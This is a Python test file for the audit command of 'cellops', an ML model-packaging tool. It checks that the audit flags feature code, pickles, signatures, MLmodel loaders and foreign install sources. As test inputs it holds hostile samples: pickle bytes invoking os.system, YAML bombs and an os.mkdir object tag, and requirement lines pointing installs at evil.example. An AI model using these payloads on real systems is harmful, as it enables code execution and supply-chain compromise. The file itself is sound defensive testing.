"""The audit says what loading would do, and agrees with it."""

import ast
import json
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pandas as pd
import pytest
import skops.io
from click.testing import CliRunner
from sklearn.linear_model import Ridge
from sklearn.pipeline import make_pipeline

from cellops import settings
from cellops.cli.verbs import terminal
from cellops.data.features.feature_set import FeatureSet
from cellops.errors import IntegrityError, NotFoundError, TrustError
from cellops.flows.audit import audit
from cellops.flows.key import key as new_keys
from cellops.flows.sign import sign
from cellops.packaging.build import build_package
from cellops.packaging.contract import build_contract
from cellops.packaging.copying import pack
from cellops.packaging.formats import FORMATS
from cellops.packaging.formats.pickle import HIDDEN
from cellops.packaging.load import load_package
from cellops.records.audit import Trusted
from support.malicious import edit, edit_skops, model_of, node, seal

SOURCE = "import math\n\n\ndef speed(miles, hours):\n    return miles / math.ceil(hours)\n"


@pytest.fixture(scope="module")
def sound(recorded, save_model, tmp_path_factory):
    """A package whose model computes features by code that comes with it."""
    folder = tmp_path_factory.mktemp("sound")
    table = pd.DataFrame({"miles": [float(n * 7 % 50) for n in range(60)], "hours": [n % 5 + 0.5 for n in range(60)]})
    target = (table["miles"] * 2).rename("cost")
    model = make_pipeline(FeatureSet("trips", SOURCE, ("speed",), keep=("miles",)), Ridge())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        model.fit(table[:40], target[:40])
        contract = build_contract(model, (table[:40], target[:40]), (table[40:], target[40:]), parity_rows=3)
        types = skops.io.get_untrusted_types(data=skops.io.dumps(model))
        saved = save_model(model, folder / "mlflow", skops_trusted_types=types)
        return build_package(saved, contract, *recorded, folder / "trips", name="trips", trusted_types=types)


@pytest.fixture
def package(sound, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return shutil.copytree(sound, tmp_path / "trips")


@pytest.fixture
def allowed(monkeypatch):
    """The settings of somebody who allows code of features."""
    monkeypatch.setenv("CELLOPS_ALLOW_CODE", "true")


def codes(done) -> list[str]:
    return [finding.code for finding in done.findings]


def test_code_of_features_is_shown_and_refused_until_it_is_allowed(package, monkeypatch):
    done = audit(package)
    assert (done.refused, done.runs_code, codes(done)) == (True, True, ["trust", "mlflow-runs-code"])
    (code,) = done.features
    assert (code.path, code.functions, code.imports, code.source) == (
        "features/trips.py",
        ("speed",),
        ("math",),
        SOURCE,
    )
    assert [piece.name for piece in done.model if piece.trusted is Trusted.NOBODY] == [settings.FEATURE_TYPE]
    with pytest.raises(TrustError) as caught:
        load_package(package)
    assert (caught.value.fact, caught.value.remedy) == (done.findings[0].seen, done.findings[0].remedy)
    monkeypatch.setenv("CELLOPS_ALLOW_CODE", "true")
    done = audit(package)
    assert (done.refused, done.runs_code) == (False, True)
    assert "its features" in done.verdict
    assert [piece.name for piece in done.model if piece.trusted is Trusted.SETTINGS] == [settings.FEATURE_TYPE]


def features_of(schema):
    return schema["content"]["content"]["steps"]["content"][0]["content"][1]


@pytest.mark.usefixtures("allowed")
def test_code_that_is_not_what_is_shown(package):
    def change(schema, _files):
        held = features_of(schema)["content"]["content"]["source"]
        held["content"] = json.dumps("import os\n" + json.loads(held["content"]))

    edit_skops(package, change)
    done = audit(package)
    assert codes(done)[0] == "integrity"
    assert "stands in no file of features/" in done.verdict
    trusted = settings.load().trusted
    with pytest.raises(IntegrityError, match="stands in no file"):
        load_package(package, trusted_types=trusted)


@pytest.mark.usefixtures("allowed")
def test_code_that_stands_where_skops_does_not_write_it(package):
    def change(schema, _files):
        state = features_of(schema)["content"]["content"]
        state["source"] = node("TupleNode", "builtins", "tuple", content=[])

    edit_skops(package, change)
    assert "stands in no file of features/" in audit(package).verdict


@pytest.mark.usefixtures("allowed")
def test_a_shown_file_that_was_altered(package):
    (package / "features" / "trips.py").write_text(SOURCE.replace("ceil", "floor"))
    done = audit(package)
    assert done.findings[0].where == "features/trips.py"
    assert "is not the file that was packaged" in done.verdict
    assert done.features == ()  # what is not the manifest's is not looked into
    seal(package)
    assert "stands in no file" in audit(package).verdict


def test_a_broken_package_is_audited_as_far_as_it_is_whole(package):
    (package / "provenance.json").write_bytes(b"{}")
    (package / "contract" / "parity.json").unlink()
    (package / "extra").write_text("x")
    done = audit(package)
    assert [finding.where for finding in done.findings] == [
        "contract/parity.json",
        "extra",
        "provenance.json",
        "MLmodel",
    ]
    assert done.refused
    assert done.model_format is None
    assert done.mlflow
    assert done.requirements
    assert done.features


def test_an_archive_is_audited_as_its_folder_is(package, tmp_path):
    pack(package, tmp_path / "trips.zip")
    said = [audit(path).replace(path="") for path in (package, tmp_path / "trips.zip")]
    assert said[0] == said[1]
    (tmp_path / "trips.zip").write_bytes((tmp_path / "trips.zip").read_bytes()[:-1])
    done = audit(tmp_path / "trips.zip")
    assert (done.digest, codes(done)) == (None, ["integrity"])
    with pytest.raises(NotFoundError):
        audit(tmp_path / "none")


def test_a_pickle_is_listed_by_what_it_names(package, monkeypatch):
    import pickle

    model_of(package, "pickle", pickle.dumps(Ridge()))
    done = audit(package)
    assert "sklearn.linear_model._ridge.Ridge" in [piece.name for piece in done.model]
    assert (done.refused, done.runs_code, codes(done)[0]) == (True, True, "trust")
    monkeypatch.setenv("CELLOPS_ALLOW_PICKLE", "true")
    done = audit(package)
    assert not done.refused
    assert "any code, which the settings allow" in done.verdict


@pytest.mark.parametrize(
    ("content", "names"),
    [
        (b"(S'x'\nios\nsystem\n.", ["os.system"]),
        (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93.", ["os.system"]),
        # The names that are read are put aside, and others are shown in their place.
        (b"\x80\x04\x8c\x02osq\x05\x8c\x06systemq\x06h\x05h\x06\x8c\x08builtins\x8c\x03len00\x93.", [HIDDEN]),
        (b"\x80\x02\x82\x07.", [HIDDEN]),
    ],
)
def test_a_pickle_cannot_hide_what_it_names(content, names):
    assert FORMATS["pickle"].untrusted(content) == names


def test_formats_of_libraries_are_listed_by_what_runs_them(package):
    import onnx
    from onnx import helper

    ends = [helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, [None]) for name in ("inputs", "label")]
    nodes = [helper.make_node("Neg", ["inputs"], ["x"]), helper.make_node("Abs", ["x"], ["label"])]
    graph = helper.make_graph(nodes, "graph", ends[:1], ends[1:])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 21)], ir_version=10)
    model_of(package, "onnx", model.SerializeToString())
    done = audit(package)
    found = [(piece.kind, piece.name, piece.trusted) for piece in done.model]
    assert found == [
        ("library", "onnx", Trusted.FORMAT),
        ("operator", "ai.onnx.Abs", Trusted.FORMAT),
        ("operator", "ai.onnx.Neg", Trusted.FORMAT),
    ]
    assert (done.refused, done.runs_code) == (False, False)


def test_every_format_of_a_library_says_who_reads_it():
    from cellops.packaging.audit.model import LIBRARIES
    from cellops.packaging.formats import FORMATS

    assert set(LIBRARIES) == set(FORMATS) - {"skops", "pickle"}


@pytest.mark.usefixtures("allowed")
def test_what_nobody_trusted_has_signed_is_not_read_at_all(package, tmp_path, monkeypatch):
    owner = new_keys(tmp_path / "keys" / "owner")
    monkeypatch.setenv("CELLOPS_TRUSTED_KEYS", owner.text)
    done = audit(package)
    assert codes(done) == ["signature"]
    assert (done.name, done.model, done.features, done.mlflow, done.requirements) == (None, (), (), (), ())
    sign(package, Path(owner.private))
    done = audit(package)
    assert not done.refused
    assert [(one.holds, one.trusted) for one in done.signatures] == [(True, True)]
    monkeypatch.delenv("CELLOPS_TRUSTED_KEYS")
    edit(package / "manifest.sig", lambda document: document["signatures"][0].update(signature="AAAA"))
    assert [(one.holds, one.trusted) for one in audit(package).signatures] == [(False, False)]


MLMODELS = {
    "a loader of its own": ({"python_function": {"loader_module": "evil"}}, "evil"),
    "code beside it": ({"python_function": {"loader_module": "mlflow.sklearn", "code": "code"}}, "code"),
    "a model in Python": ({"python_function": {"loader_module": "mlflow.pyfunc.model"}}, "mlflow.pyfunc.model"),
    "no format": ({"python_function": {"loader_module": "mlflow.sklearn"}, "sklearn": {}}, "mlflow.sklearn"),
    "a pickle": (
        {"python_function": {"loader_module": "mlflow.sklearn"}, "sklearn": {"serialization_format": "cloudpickle"}},
        "mlflow.sklearn",
    ),
    "types on its own word": (
        {
            "python_function": {"loader_module": "mlflow.sklearn"},
            "sklearn": {"serialization_format": "skops", "skops_trusted_types": ["os.system"]},
        },
        "os.system",
    ),
    "a class that it names": (
        {"python_function": {"loader_module": "mlflow.xgboost"}, "xgboost": {"model_class": "os.getcwd"}},
        "os.getcwd",
    ),
    "a class that is pickled": (
        {
            "python_function": {"loader_module": "mlflow.lightgbm"},
            "lightgbm": {"model_class": "lightgbm.LGBMRegressor"},
        },
        "mlflow.lightgbm",
    ),
    "nothing": ({}, "nothing"),
}


@pytest.mark.usefixtures("allowed")
@pytest.mark.parametrize("library", ["xgboost", "lightgbm", "onnx"])
def test_libraries_own_formats_run_nothing_by_mlflow(package, library):
    flavors = {"python_function": {"loader_module": f"mlflow.{library}"}, library: {"data": "model"}}
    (package / "MLmodel").write_text(json.dumps({"flavors": flavors}))
    seal(package)
    assert codes(audit(package)) == []


@pytest.mark.usefixtures("allowed")
@pytest.mark.parametrize("name", MLMODELS)
def test_what_mlflow_would_run_is_told(package, name):
    flavors, told = MLMODELS[name]
    (package / "MLmodel").write_text(json.dumps({"flavors": flavors}))
    seal(package)
    done = audit(package)
    assert told in [piece.name for piece in done.mlflow if piece.trusted is Trusted.NOBODY]
    assert "mlflow-runs-code" in codes(done)
    assert not done.refused  # what loads it here does not read MLmodel
    assert load_package(package, trusted_types=settings.load().trusted)


HURTING = (
    "flavors: " + "[" * 100_000,
    "flavors: &a [*a]",
    "flavors: {}\n" + "#" * 300_000,
    "[]",
    "flavors: !!python/object/apply:os.mkdir [ran]",
    "\x00",
    "flavors:\n" + "".join(f" {n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}]}}\n" for n in range(1, 40)),
)


@pytest.mark.usefixtures("allowed")
def test_descriptions_that_would_hurt_who_reads_them(package, tmp_path):
    """In a process of its own: some overflow the stack of compiled readers."""
    for number, text in enumerate(HURTING):
        changed = shutil.copytree(package, tmp_path / "hurting" / str(number))
        (changed / "MLmodel").write_text(text)
        seal(changed)
    code = """
import sys
from pathlib import Path
from cellops.flows.audit import audit
for package in Path(sys.argv[1]).iterdir():
    print(*[finding.code for finding in audit(package).findings])
"""
    command = [sys.executable, "-c", code, tmp_path / "hurting"]
    done = subprocess.run(command, capture_output=True, timeout=60, check=True, cwd=tmp_path)
    assert done.stdout.decode().split() == ["mlflow-runs-code"] * len(HURTING)
    assert not (tmp_path / "ran").exists()


@pytest.mark.usefixtures("allowed")
@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("--index-url https://evil.example/simple", "an option of the installer"),
        ("-i https://evil.example", "an option of the installer"),
        ("-e .", "an option of the installer"),
        ("-r ../other.txt", "an option of the installer"),
        ("--find-links=wheels", "an option of the installer"),
        ("evil @ https://evil.example/evil.whl", "an address"),
        ("git+https://evil.example/x#egg=numpy", "an address"),
        ("./wheels/numpy.whl", "a path"),
        ("numpy==1.0 --index-url https://evil.example", "an option of the installer"),
        ("numpy==1.0 \\\n  --index-url https://evil.example", "an option of the installer"),
        ("numpy==1.0\x0b--index-url=x", "nothing that an index knows"),
        ("numpy==1.0 --config-settings=x", "an option of the installer"),
    ],
)
def test_what_would_be_installed_from_elsewhere(package, line, why):
    (package / "environment" / "lock.txt").write_text(f"# a comment\nnumpy==2.4.6\n{line}\n")
    seal(package)
    done = audit(package)
    (foreign,) = (one for one in done.requirements if one.foreign)
    assert foreign.foreign == why
    assert codes(done) == ["foreign-requirement"]
    assert not done.refused


@pytest.mark.usefixtures("allowed")
def test_what_an_index_has(package):
    digest = f"--hash=sha256:{'a' * 64}"
    lines = [
        f"numpy==2.4.6 {digest} \\",
        f"  {digest}",
        "scikit-learn>=1.5,<2",
        "uvicorn[standard]==0.30 ; os_name<'4'",
        "pip",
    ]
    (package / "environment" / "lock.txt").write_text("\n".join(lines))
    (package / "conda.yaml").write_text("dependencies: [python=3.11.7, pip<=23.2.1, {pip: [evil @ file:///x]}]")
    seal(package)
    done = audit(package)
    held = [(one.name, one.version) for one in done.requirements if one.path == "environment/lock.txt"]
    assert held == [("numpy", "2.4.6"), ("scikit-learn", None), ("uvicorn", "0.30"), ("pip", None)]
    assert [one.line for one in done.requirements if one.foreign] == ["evil @ file:///x"]


def test_the_verb_says_it_and_leaves_with_three_when_it_is_refused(package, monkeypatch):
    refused = CliRunner().invoke(terminal, ["audit", str(package)])
    assert refused.exit_code == 3
    assert (
        "✗ Refused before anything is loaded\nerror the package: The model computes features by code" in refused.output
    )
    assert "features   features/trips.py: speed, imports math" in refused.output
    monkeypatch.setenv("CELLOPS_ALLOW_CODE", "true")
    done = CliRunner().invoke(terminal, ["audit", str(package), "--all"])
    assert done.exit_code == 0
    assert "trusted by your settings" in done.output
    assert "sklearn.linear_model._ridge.Ridge trusted by its format" in done.output
    said = json.loads(CliRunner().invoke(terminal, ["audit", str(package), "--json"]).output)
    assert (said["refused"], said["runs_code"], said["features"][0]["source"]) == (False, True, SOURCE)


def test_in_a_notebook_it_is_shown_and_ends_in_no_exit_code(package, capsys):
    from cellops.magics import line_verbs

    line_verbs.main(["audit", str(package)], "%mlops", standalone_mode=False, obj=None)
    assert "✗ Refused before anything is loaded" in capsys.readouterr().out


def test_keys_and_signatures_from_the_terminal(package, tmp_path, monkeypatch):
    monkeypatch.setenv("CELLOPS_ALLOW_CODE", "true")
    made = CliRunner().invoke(terminal, ["key", "release"])
    assert made.exit_code == 0
    assert "PRIVATE" not in made.output
    assert (tmp_path / "release.pub").read_text().split()[0] in made.output
    monkeypatch.setenv("CELLOPS_TRUSTED_KEYS", "release.pub")
    assert CliRunner().invoke(terminal, ["audit", str(package)]).exit_code == 3
    done = CliRunner().invoke(terminal, ["sign", str(package), "--key", "release"])
    assert done.exit_code == 0
    assert "✓ trips signed by ed25519:" in done.output
    assert CliRunner().invoke(terminal, ["audit", str(package)]).exit_code == 0


def test_every_verb_that_opens_a_package_does_it_by_the_settings():
    """`flows.opening` hands the trusted keys over; whoever imports the loaders themselves could forget them."""
    flows = Path(settings.__file__).parent / "flows"
    # All but the first open what has just been built, or the copy that `flows.opening` has unpacked for them.
    builders = {"opening.py", "package.py", "try_deployment.py", "deployment_steps.py"}
    loaders = {"cellops.packaging.load", "cellops.packaging.manifest"}
    for path in sorted(flows.rglob("*.py")):
        for found in ast.walk(ast.parse(path.read_text())):
            if isinstance(found, ast.ImportFrom) and found.module in loaders and path.name not in builders:
                assert not {"load_package", "read_contract", "verify"} & {one.name for one in found.names}, path.name
